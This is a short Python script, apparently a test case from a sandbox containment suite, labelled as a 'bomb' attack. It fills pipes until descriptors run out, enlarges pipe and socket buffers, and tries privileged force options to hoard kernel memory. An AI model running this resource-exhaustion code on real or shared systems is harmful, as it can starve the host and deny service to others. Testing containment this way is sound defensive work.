# /// attack
# kind = "bomb"
# aim = "keep data in pipes and sockets, and make them larger"
# outcome = "exited"
# ///
import fcntl
import os
import socket

written = 0
try:
    while True:
        ours, theirs = os.pipe()
        os.set_blocking(theirs, False)
        try:
            if fcntl.fcntl(theirs, 1031, 1 << 20) > 65536:  # F_SETPIPE_SZ
                print("managed a larger pipe")
        except OSError:
            pass
        try:
            while True:
                written += os.write(theirs, bytes(65536))
        except BlockingIOError:
            pass
except OSError:
    pass
for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):  # 32, 33: by force
    try:
        pair = socket.socketpair()
        pair[0].setsockopt(socket.SOL_SOCKET, option, 1 << 30)
        print("managed a larger buffer")
    except OSError:
        pass
if written > 8_000_000:
    print("managed to keep", written)
print("contained")
